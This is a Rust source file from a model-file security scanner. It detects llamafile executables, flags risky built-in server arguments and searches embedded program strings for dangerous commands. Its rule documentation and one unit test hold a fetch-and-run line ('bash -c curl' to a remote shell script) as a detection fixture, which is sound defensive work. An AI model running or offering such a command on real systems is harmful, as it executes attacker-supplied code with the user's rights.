//! llamafile: a native program that carries its model, and the `.args` file that tells it what to do.
//!
//! Source: `ape/specification.md` of jart/cosmopolitan (actually portable executables) and Mozilla-Ocho/llamafile. The
//! zip archive such a file ends in is read by the zip reader; a GGUF model outside of it is carved out here.
//! Cost: one search for magics over the file and one pass over the program's strings, bounded by [`PROGRAM_BYTES`].

use crate::archive::zip::ZIP;
use crate::text::indicators::{self, inspect_metadata, path_escape};
use crate::{Format, Input, Recognition, Scan};
use bartizan_core::{Finding, Kind, Location, Rule, Severity, atlas, cwe, owasp_llm, owasp_ml, rule};
use memchr::memmem;

/// The llamafile format.
#[derive(Debug, Clone, Copy)]
pub struct Llamafile;

impl Format for Llamafile {
    fn id(&self) -> &'static str {
        "llamafile"
    }

    fn name(&self) -> &'static str {
        "llamafile (a program that carries its model)"
    }

    fn kind(&self) -> Kind {
        Kind::Model
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["llamafile", "exe", "com"]
    }

    fn rules(&self) -> &'static [&'static Rule] {
        &[&EXECUTABLE_MODEL]
    }

    fn recognise(&self, input: &Input<'_>) -> Recognition {
        let is_portable = APE_MAGICS.iter().any(|magic| input.bytes.starts_with(magic));
        let is_native = NATIVE_MAGICS.iter().any(|magic| input.bytes.starts_with(magic));
        let names_itself = || {
            let parts = [input.head(HEAD_BYTES), input.tail(TAIL_BYTES)];
            // A script carries a model behind its text; one without a zero byte carries none, whatever it speaks of.
            let is_text =
                input.bytes.starts_with(b"#!/") && parts.iter().all(|part| memchr::memchr(0, part).is_none());
            !is_text && parts.iter().any(|part| MARKS.iter().any(|mark| memmem::find(part, mark).is_some()))
        };
        if is_portable || is_native && (input.extension() == "llamafile" || names_itself()) {
            Recognition::Certain
        } else {
            Recognition::No
        }
    }

    fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
        scan.report(
            Finding::new(
                &EXECUTABLE_MODEL,
                "the model is a native program; using it runs its code with the user's rights",
            )
            .at(0),
        );
        let models =
            if ZIP.recognise(input) == Recognition::Certain { Vec::new() } else { carved(input.bytes) };
        let program_end = models.first().copied().unwrap_or(input.bytes.len()).min(PROGRAM_BYTES);
        program_strings(input.bytes.get(..program_end).unwrap_or_default(), scan);
        for (index, &start) in models.iter().enumerate() {
            let end = models.get(index.saturating_add(1)).copied().unwrap_or(input.bytes.len());
            scan.member(&format!("model at {start}.gguf"), input.bytes.get(start..end).unwrap_or_default());
        }
    }
}

/// The arguments a llamafile gives itself.
#[derive(Debug, Clone, Copy)]
pub struct LlamafileArguments;

impl Format for LlamafileArguments {
    fn id(&self) -> &'static str {
        "llamafile-args"
    }

    fn name(&self) -> &'static str {
        "llamafile arguments"
    }

    fn kind(&self) -> Kind {
        Kind::Config
    }

    fn extensions(&self) -> &'static [&'static str] {
        &["args"]
    }

    fn rules(&self) -> &'static [&'static Rule] {
        &[&LLAMAFILE_ARGUMENTS]
    }

    fn recognise(&self, input: &Input<'_>) -> Recognition {
        let text = std::str::from_utf8(input.head(ARGUMENT_BYTES));
        if input.file_name() == ".args" && text.is_ok_and(|text| text.trim_start().starts_with('-')) {
            Recognition::Certain
        } else {
            Recognition::No
        }
    }

    fn scan(&self, input: &Input<'_>, scan: &mut Scan<'_>) {
        let text = String::from_utf8_lossy(input.head(ARGUMENT_BYTES));
        if input.bytes.len() > ARGUMENT_BYTES {
            scan.gap(ARGUMENT_BYTES as u64, format!("arguments behind byte {ARGUMENT_BYTES} were not read"));
        }
        inspect_metadata(&text, &Location::default(), scan);
        let lines: Vec<&str> = text.lines().map(str::trim).collect();
        for (index, option) in lines.iter().enumerate() {
            let (option, inline) = option.split_once('=').unwrap_or((option, ""));
            let next = lines.get(index.saturating_add(1)).copied().unwrap_or_default();
            let value = if inline.is_empty() { next } else { inline };
            let line = u32::try_from(index).unwrap_or(u32::MAX).saturating_add(1);
            let verdict = match option {
                "--host" if value == "0.0.0.0" || value == "::" => {
                    Some((Severity::Medium, "opens the server to the network"))
                }
                "--unsecure" => Some((Severity::Medium, "switches the sandbox of llamafile off")),
                "-mu" | "--model-url" | "-hfr" | "--hf-repo" => {
                    Some((Severity::Medium, "downloads another model than the one inside"))
                }
                "--rpc" => Some((Severity::Medium, "hands tensors to another machine")),
                "-m" | "--model" | "--lora" | "--mmproj" | "--path" | "-f" | "--file" | "--log-file"
                | "--grammar-file"
                    if !value.starts_with("/zip/") && path_escape(value).is_some() =>
                {
                    Some((Severity::Medium, "names a file outside the archive"))
                }
                _ => None,
            };
            if let Some((severity, what)) = verdict {
                let message = format!("the argument `{option}` {what}");
                scan.report(
                    Finding::new(&LLAMAFILE_ARGUMENTS, message)
                        .severity(severity)
                        .at_line(line, 1)
                        .evidence(value),
                );
            }
        }
    }
}

/// Where a GGUF model begins: the magic and a version that exists, at most [`MODELS`] of them.
fn carved(bytes: &[u8]) -> Vec<usize> {
    let is_model = |at: &usize| {
        let version = at.saturating_add(4)..at.saturating_add(8);
        matches!(bytes.get(version), Some([1..=3, 0, 0, 0] | [0, 0, 0, 1..=3]) | None)
    };
    memmem::find_iter(bytes, b"GGUF").filter(is_model).take(MODELS).collect()
}

/// Commands among the strings of the program. Only those no honest runtime carries count.
fn program_strings(program: &[u8], scan: &mut Scan<'_>) {
    let mut start = 0usize;
    let mut count = 0u32;
    for run in program.split(|byte| !(b' '..=b'~').contains(byte)) {
        let at = start;
        start = start.saturating_add(run.len()).saturating_add(1);
        if run.len() < SHORTEST_STRING {
            continue;
        }
        count = count.wrapping_add(1);
        if count.is_multiple_of(8192) && scan.out_of_time() {
            return;
        }
        let Ok(text) = std::str::from_utf8(run) else { continue };
        if let Some(what) = indicators::dangerous_command(text) {
            let message = format!("the program that carries the model holds {what}");
            scan.report(
                Finding::new(&EXECUTABLE_MODEL, message)
                    .severity(Severity::High)
                    .at(at as u64)
                    .evidence(text),
            );
        }
    }
}

/// How an actually portable executable begins.
const APE_MAGICS: [&[u8]; 3] = [b"MZqFpD='", b"jartsr='", b"APEDBG='"];
/// How native programs begin.
const NATIVE_MAGICS: [&[u8]; 6] =
    [b"\x7fELF", b"MZ", b"\xcf\xfa\xed\xfe", b"\xce\xfa\xed\xfe", b"\xca\xfe\xba\xbe", b"#!/"];
/// What a llamafile calls itself, in its runtime or in the directory of its archive.
const MARKS: [&[u8]; 3] = [b"llamafile", b".gguf", b"LLAMAFILE"];
/// How much of the beginning is searched for [`MARKS`], in bytes.
const HEAD_BYTES: usize = 256 << 10;
/// How much of the end is searched for [`MARKS`], in bytes: the zip directory.
const TAIL_BYTES: usize = 64 << 10;
/// How much of the program is searched for commands, in bytes; the runtimes seen so far stay below.
const PROGRAM_BYTES: usize = 256 << 20;
/// Shortest string judged, in bytes.
const SHORTEST_STRING: usize = 12;
/// Most models carved out.
const MODELS: usize = 16;
/// Longest `.args` read, in bytes.
const ARGUMENT_BYTES: usize = 1 << 20;

rule! {
    /// ## What it finds
    /// A model shipped as a native program (llamafile: an actually portable executable, ELF, PE or Mach-O with the model
    /// inside). It is `high` when the program's strings hold a command that downloads and runs something.
    /// ## Why it matters
    /// Weights are data; this is a program. Whoever starts it runs everything in it, and a changed runtime looks the same
    /// as the original one.
    /// ## Example
    /// A `.llamafile` whose runtime holds `bash -c curl http://203.0.113.7/payload.sh`.
    /// ## How to fix
    /// Take the GGUF model out (`unzip`) and run it with a runtime you built, or compare the file's digest with the
    /// publisher's.
    /// ## References
    /// - <https://github.com/Mozilla-Ocho/llamafile#security>
    pub const EXECUTABLE_MODEL: Rule = Rule {
        id: "model/executable-model",
        title: "a native program that carries the model",
        severity: Severity::Medium,
        remedy: "Take the GGUF model out and run it with a runtime you trust, or compare the digest with the publisher's.",
        taxonomies: &[atlas("AML.T0011.000"), cwe(829), owasp_llm("LLM03"), owasp_ml("ML06")],
    };

    /// ## What it finds
    /// Arguments inside a llamafile that open the server to the network, switch the sandbox off, fetch another model or
    /// name files outside the archive.
    /// ## Why it matters
    /// The arguments take effect without being typed: whoever starts the file gets them.
    /// ## Example
    /// `--host` followed by `0.0.0.0`.
    /// ## How to fix
    /// Remove the argument with `zipalign`, or start the model with a runtime and arguments of your own.
    /// ## References
    /// - <https://github.com/Mozilla-Ocho/llamafile#creating-llamafiles>
    pub const LLAMAFILE_ARGUMENTS: Rule = Rule {
        id: "model/llamafile-arguments",
        title: "risky arguments built into a llamafile",
        severity: Severity::Medium,
        remedy: "Remove the argument, or start the model with a runtime and arguments of your own.",
        taxonomies: &[atlas("AML.T0010.003"), cwe(15), owasp_llm("LLM03")],
    };
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::Outcome;
    use bartizan_core::{Limits, MonotonicClock};
    use proptest::prelude::*;

    fn scanned(name: &str, bytes: &[u8]) -> Outcome {
        crate::scan(&Input::new(name, bytes), &Limits::default(), &MonotonicClock::start())
    }

    fn severity_of(outcome: &Outcome, rule: &Rule) -> Option<Severity> {
        outcome
            .findings
            .iter()
            .filter(|finding| finding.rule.id == rule.id)
            .map(|finding| finding.severity)
            .max()
    }

    fn program(strings: &str) -> Vec<u8> {
        let mut bytes = b"\x7fELF\x02\x01\x01".to_vec();
        bytes.resize(64, 0);
        bytes.extend(b"llamafile runtime\0");
        bytes.extend(strings.as_bytes());
        bytes.extend([0; 64]);
        bytes.extend(b"GGUF\x03\0\0\0");
        bytes.extend([0; 16]);
        bytes
    }

    #[test]
    fn a_program_that_carries_a_model_is_medium() {
        let outcome =
            scanned("m.llamafile", &program("--threads 4\0usage: curl http://localhost:8080/health"));
        assert_eq!(severity_of(&outcome, &EXECUTABLE_MODEL), Some(Severity::Medium));
    }

    #[test]
    fn a_runtime_that_fetches_a_script_is_high() {
        let outcome = scanned("m.llamafile", &program("bash -c curl http://203.0.113.7/p.sh"));
        assert_eq!(severity_of(&outcome, &EXECUTABLE_MODEL), Some(Severity::High));
    }

    #[test]
    fn an_ordinary_program_is_no_llamafile() {
        let mut bytes = b"\x7fELF\x02\x01\x01".to_vec();
        bytes.resize(4096, 0);
        assert_eq!(Llamafile.recognise(&Input::new("libm.so", &bytes)), Recognition::No);
        let script = b"#!/usr/bin/env python\nprint('loads a .gguf file')\n";
        assert_eq!(Llamafile.recognise(&Input::new("load.py", script)), Recognition::No);
        let carries = [&script[..], b"\0\0PK"].concat();
        assert_eq!(Llamafile.recognise(&Input::new("run", &carries)), Recognition::Certain);
    }

    #[test]
    fn arguments_that_open_the_server_are_medium_and_plain_ones_are_silent() {
        let open = scanned(".args", b"-m\n/zip/m.gguf\n--host\n0.0.0.0\n");
        assert_eq!(severity_of(&open, &LLAMAFILE_ARGUMENTS), Some(Severity::Medium));
        assert_eq!(scanned(".args", b"-m\n/zip/m.gguf\n--temp\n0.7\n...\n").findings, []);
    }

    proptest! {
        #[test]
        fn any_bytes_behind_the_magic_give_a_result(bytes: Vec<u8>) {
            scanned("m.llamafile", &[b"MZqFpD='".as_slice(), &bytes].concat());
        }

        #[test]
        fn any_arguments_give_a_result(text in "(-m|--host|=|\\n|\\.\\./|[a-z]){0,40}") {
            scanned(".args", format!("-{text}").as_bytes());
        }
    }
}
